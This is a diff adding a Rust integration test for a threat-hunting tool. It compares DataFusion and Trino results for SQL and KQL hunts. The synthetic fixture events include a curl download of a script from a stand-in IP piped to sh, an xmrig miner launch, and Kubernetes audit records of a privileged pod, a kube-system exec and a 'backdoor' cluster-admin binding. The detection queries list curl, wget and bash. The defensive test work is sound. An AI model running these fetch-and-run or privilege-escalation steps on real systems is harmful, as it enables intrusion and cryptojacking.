@@ -1,0 +1,298 @@
+//! The same hunts on both engines: events committed by the store, read by DataFusion in
+//! this process and by a real Trino server (Hive connector, file metastore, the store's
+//! directory as its local file system), must return the same rows, SQL and KQL alike.
+
+#[path = "support/trino_server.rs"]
+mod trino_server;
+
+use std::time::Duration;
+
+use riposte_detect::audit;
+use riposte_detect::runtime::{Action, Container, Endpoint, Process, ProcessEvent, Sensor};
+use riposte_hunt::go_hunt::{Entities, go_hunt};
+use riposte_hunt::query::{
+    Hunt, HuntResult, Language, Limits, TrinoTables, run_local, run_trino, trino_setup_statements,
+};
+use riposte_hunt::record::{audit_record, process_record};
+use riposte_hunt::store::{Store, StoreSettings, now_micros};
+use riposte_hunt::trino::{TrinoClient, TrinoSettings};
+use serde_json::{Value, json};
+
+const MINUTE: i64 = 60_000_000;
+
+fn process(at: i64, pod: &str, name: &str, args: &[&str], action: Action) -> ProcessEvent {
+    ProcessEvent {
+        time: audit::Timestamp::from_unix_micros(at),
+        sensor: Sensor::Riposte,
+        node: Some("node-1".into()),
+        container: Some(Container {
+            id: format!("c-{pod}"),
+            name: Some("app".into()),
+            image: Some(format!("shop/{pod}:1")),
+            pod: Some(pod.into()),
+            namespace: Some("shop".into()),
+            ..Container::default()
+        }),
+        process: Process {
+            pid: 100,
+            exec_id: Some(format!("{pod}-{at}")),
+            binary: format!("/usr/bin/{name}"),
+            name: name.into(),
+            args: args.iter().map(|a| (*a).to_owned()).collect(),
+            ..Process::default()
+        },
+        parent: Some(Process { pid: 1, name: "sh".into(), ..Process::default() }),
+        ancestors: vec![],
+        action,
+    }
+}
+
+fn audit_event(at: i64, json: Value) -> audit::Event {
+    let mut json = json;
+    json["stageTimestamp"] = json!(riposte_hunt::partition::format_micros(at));
+    json["stage"] = json!("ResponseComplete");
+    serde_json::from_value(json).unwrap()
+}
+
+/// A morning of a shop: the web pods' own work, an attacker's download and shell in web-1,
+/// and the API calls around it.
+fn events(now: i64) -> (Vec<ProcessEvent>, Vec<audit::Event>) {
+    let t = |minutes_ago: i64| now - minutes_ago * MINUTE;
+    let mut processes = Vec::new();
+    for (i, pod) in ["web-0", "web-1", "web-2"].iter().enumerate() {
+        for minute in 0..20 {
+            processes.push(process(t(90 - minute - i as i64 * 7), pod, "nginx", &["-g", "daemon off;"], Action::Exec));
+        }
+    }
+    processes.push(process(t(40), "web-1", "curl", &["-s", "http://203.0.113.9/x.sh"], Action::Exec));
+    processes.push(process(
+        t(40) + 1,
+        "web-1",
+        "curl",
+        &[],
+        Action::Connect(Endpoint { address: "203.0.113.9".into(), port: 80, protocol: "tcp".into() }),
+    ));
+    processes.push(process(t(39), "web-1", "bash", &["-c", "sh x.sh"], Action::Exec));
+    processes.push(process(t(38), "web-1", "xmrig", &["--donate-level", "1"], Action::Exec));
+    processes.push(process(
+        t(38) + 5,
+        "web-1",
+        "xmrig",
+        &[],
+        Action::FileOpen { path: "/tmp/.cache/config.json".into(), write: true, truncate: true },
+    ));
+    let audits = vec![
+        audit_event(
+            t(60),
+            json!({"auditID": "a-priv", "verb": "create", "requestURI": "/api/v1/namespaces/shop/pods",
+                "user": {"username": "mallory", "groups": ["system:authenticated"]}, "sourceIPs": ["198.51.100.7"],
+                "userAgent": "kubectl/v1.33.1", "objectRef": {"resource": "pods", "namespace": "shop", "name": "web-1", "apiVersion": "v1"},
+                "responseStatus": {"code": 201},
+                "requestObject": {"metadata": {"name": "web-1"}, "spec": {"containers": [
+                    {"name": "app", "image": "shop/web-1:1", "securityContext": {"privileged": true}},
+                    {"name": "sidecar", "image": "envoy"}]}}}),
+        ),
+        audit_event(
+            t(41),
+            json!({"auditID": "a-exec", "verb": "create", "requestURI": "/api/v1/namespaces/kube-system/pods/coredns-1/exec?command=sh",
+                "user": {"username": "mallory"}, "sourceIPs": ["198.51.100.7"], "userAgent": "kubectl/v1.33.1",
+                "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "kube-system", "name": "coredns-1", "apiVersion": "v1"},
+                "responseStatus": {"code": 101}}),
+        ),
+        audit_event(
+            t(30),
+            json!({"auditID": "a-crb", "verb": "create", "requestURI": "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
+                "user": {"username": "mallory"}, "sourceIPs": ["198.51.100.7"], "userAgent": "kubectl/v1.33.1",
+                "objectRef": {"resource": "clusterrolebindings", "name": "backdoor", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"},
+                "responseStatus": {"code": 201},
+                "requestObject": {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
+                    "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}, {"kind": "User", "name": "mallory"}]}}),
+        ),
+        audit_event(
+            t(20),
+            json!({"auditID": "a-get", "verb": "get", "requestURI": "/api/v1/namespaces/shop/secrets/db",
+                "user": {"username": "system:serviceaccount:shop:default"}, "sourceIPs": ["10.0.0.5"],
+                "objectRef": {"resource": "secrets", "namespace": "shop", "name": "db", "apiVersion": "v1"},
+                "responseStatus": {"code": 200}}),
+        ),
+    ];
+    (processes, audits)
+}
+
+/// The hunts that must agree: SQL over each table, and the documented KQL samples.
+const HUNTS: &[(Language, &str)] = &[
+    (
+        Language::Sql,
+        r#"SELECT "ProcessName", count(*) AS n, min("Timestamp") AS first FROM "CloudProcessEvents" GROUP BY "ProcessName" ORDER BY n DESC, "ProcessName""#,
+    ),
+    (
+        Language::Sql,
+        r#"SELECT "Timestamp", "KubernetesPodName", "ProcessCommandLine", "ProcessArgs" FROM "CloudProcessEvents" WHERE "ProcessName" <> 'nginx' ORDER BY "Timestamp", "ActionType""#,
+    ),
+    (
+        Language::Sql,
+        r#"SELECT "UserName", "Resource", "Subresource", "ResponseCode", "UserGroups" FROM "CloudAuditEvents" ORDER BY "Timestamp""#,
+    ),
+    (
+        Language::Kql,
+        r#"CloudAuditEvents
+| where Timestamp > ago(1d)
+| where OperationName == "create"
+| where RawEventData.ObjectRef.resource == "pods" and isnull(RawEventData.ObjectRef.subresource)
+| where RawEventData.ResponseStatus.code startswith "20"
+| extend PodName = RawEventData.RequestObject.metadata.name
+| extend PodNamespace = RawEventData.ObjectRef.namespace
+| mv-expand Container = RawEventData.RequestObject.spec.containers
+| extend ContainerName = Container.name
+| where Container.securityContext.privileged == "true"
+| extend Username = RawEventData.User.username
+| project Timestamp, AzureResourceId , OperationName, IPAddress, UserAgent, PodName, PodNamespace, ContainerName, Username"#,
+    ),
+    (
+        Language::Kql,
+        r#"CloudAuditEvents
+| where Timestamp > ago(1d)
+| where OperationName == "create"
+| where RawEventData.ObjectRef.resource == "pods" and RawEventData.ObjectRef.subresource == "exec"
+| where RawEventData.ObjectRef.namespace == "kube-system"
+| where RawEventData.ResponseStatus.code == 101
+| extend Namespace = tostring(RawEventData.ObjectRef.namespace)
+| extend PodName = tostring(RawEventData.ObjectRef.name)
+| extend Username = tostring(RawEventData.User.username)
+| project Timestamp, AzureResourceId, OperationName, IPAddress, UserAgent, PodName, Namespace, Username"#,
+    ),
+    (
+        Language::Kql,
+        r#"CloudAuditEvents
+| where Timestamp > ago(1d)
+| where OperationName == "create"
+| where RawEventData.ObjectRef.resource == "clusterrolebindings"
+| where RawEventData.ResponseStatus.code startswith "20"
+| where RawEventData.RequestObject.roleRef.name == "cluster-admin"
+| mv-expand Subject = RawEventData.RequestObject.subjects
+| extend SubjectName = tostring(Subject.name)
+| extend SubjectKind = tostring(Subject["kind"])
+| project Timestamp, AzureResourceId, OperationName, IPAddress, UserAgent, SubjectName, SubjectKind"#,
+    ),
+    (
+        Language::Kql,
+        r#"CloudProcessEvents
+| where Timestamp > ago(1h)
+| where ProcessName in~ ("curl", "wget", "bash") or ProcessCommandLine has_any ("curl", "wget")
+| project Timestamp, KubernetesNamespace, KubernetesPodName, ContainerName, ProcessName, ProcessCommandLine, ParentProcessName
+| order by Timestamp desc"#,
+    ),
+    (
+        Language::Kql,
+        r#"CloudProcessEvents
+| where Timestamp > ago(7d)
+| summarize Count = count(), Pods = dcount(KubernetesPodName), FirstSeen = min(Timestamp), LastSeen = max(Timestamp) by ProcessName, ContainerImageName
+| where Count < 5
+| order by Count asc, ProcessName asc"#,
+    ),
+    (
+        Language::Kql,
+        r#"CloudProcessEvents
+| where ActionType == "exec"
+| summarize Execs = count() by KubernetesPodName, bin(Timestamp, 30m)
+| order by KubernetesPodName asc, Timestamp asc"#,
+    ),
+    (
+        Language::Kql,
+        r#"CloudProcessEvents
+| summarize arg_max(Timestamp, ProcessName, ProcessCommandLine) by KubernetesPodName
+| order by KubernetesPodName asc"#,
+    ),
+    (
+        Language::Kql,
+        r#"CloudProcessEvents
+| where KubernetesPodName == "web-1" and ProcessName != "nginx"
+| join kind=inner (CloudAuditEvents | where OperationName == "create" | project KubernetesPodName = ObjectName, UserName) on KubernetesPodName
+| project Timestamp, ProcessName, UserName
+| order by Timestamp asc"#,
+    ),
+    (
+        Language::Kql,
+        r#"CloudAuditEvents
+| mv-expand Group = UserGroups
+| summarize Requests = count() by tostring(Group)
+| order by Requests desc"#,
+    ),
+];
+
+fn comparable(result: &HuntResult) -> (Vec<String>, Vec<Vec<Value>>) {
+    let columns = result.columns.iter().map(|c| c.name.to_ascii_lowercase()).collect();
+    let rows = result
+        .rows
+        .iter()
+        .map(|row| {
+            row.iter()
+                .map(|v| match v {
+                    // DataFusion counts in Int64, Trino in bigint; both integral: compare as such.
+                    Value::Number(n) if n.is_f64() && n.as_f64().is_some_and(|f| f.fract() == 0.0) => {
+                        json!(n.as_f64().unwrap() as i64)
+                    }
+                    other => other.clone(),
+                })
+                .collect()
+        })
+        .collect();
+    (columns, rows)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_same_hunts_return_the_same_rows_from_datafusion_and_trino() {
+    let root = std::env::temp_dir().join(format!("riposte-hunt-engines-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&root);
+    let store = Store::open(StoreSettings::new(&root, "engines")).unwrap();
+    let now = now_micros();
+    let (processes, audits) = events(now);
+    store.append(processes.iter().map(|e| process_record(e, "prod-eu")));
+    store.append(audits.iter().map(|e| audit_record(e, "webhook", "prod-eu")));
+    store.flush().await.unwrap();
+
+    let server = trino_server::TrinoServer::start(&root).await.unwrap_or_else(|e| panic!("{e}"));
+    let client = TrinoClient::new(TrinoSettings {
+        endpoint: server.endpoint(),
+        user: "analyst".into(),
+        catalog: "hive".into(),
+        schema: "riposte".into(),
+        ca_file: None,
+    })
+    .unwrap();
+    let tables = TrinoTables { catalog: "hive".into(), schema: "riposte".into() };
+    for statement in trino_setup_statements(&tables, "local:///") {
+        client
+            .execute(&statement, Duration::from_secs(120))
+            .await
+            .unwrap_or_else(|e| panic!("{statement}\n{e}\n{}", server.log_tail()));
+    }
+    let limits = Limits::default();
+    let window =
+        |text: &str, language: Language| Hunt { text: text.into(), language, from: now - 2 * 60 * MINUTE, to: now + 1 };
+    let mut hunts: Vec<Hunt> = HUNTS.iter().map(|(language, text)| window(text, *language)).collect();
+    let entities = Entities {
+        namespace: Some("shop".into()),
+        pod: Some("web-1".into()),
+        user: Some("mallory".into()),
+        ..Entities::default()
+    };
+    hunts.push(Hunt { to: now + 1, ..go_hunt(&entities, now - 40 * MINUTE).unwrap() });
+    for hunt in &hunts {
+        let local = run_local(&store, hunt, &limits, now + 1)
+            .await
+            .unwrap_or_else(|e| panic!("DataFusion: {e}\n{}", hunt.text));
+        let trino = run_trino(&client, &tables, hunt, &limits, now + 1)
+            .await
+            .unwrap_or_else(|e| panic!("Trino: {e}\n{}\n{}", hunt.text, server.log_tail()));
+        assert!(!local.rows.is_empty(), "a golden hunt that finds nothing proves nothing:\n{}", hunt.text);
+        assert_eq!(
+            comparable(&local),
+            comparable(&trino),
+            "the engines disagree on\n{}\nTrino ran:\n{}",
+            hunt.text,
+            trino.sql
+        );
+    }
+    let _ = std::fs::remove_dir_all(&root);
+}
